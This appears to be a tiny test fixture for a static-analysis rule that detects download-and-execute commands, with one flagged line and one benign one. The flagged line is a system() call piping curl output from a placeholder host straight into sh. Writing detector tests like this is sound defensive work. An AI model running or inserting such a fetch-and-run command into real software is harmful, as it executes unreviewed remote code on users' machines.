# ruleid: code-download-command
system("curl -s https://example.invalid/s.sh | sh")
# ok: code-download-command
system("curl --version | head -1")
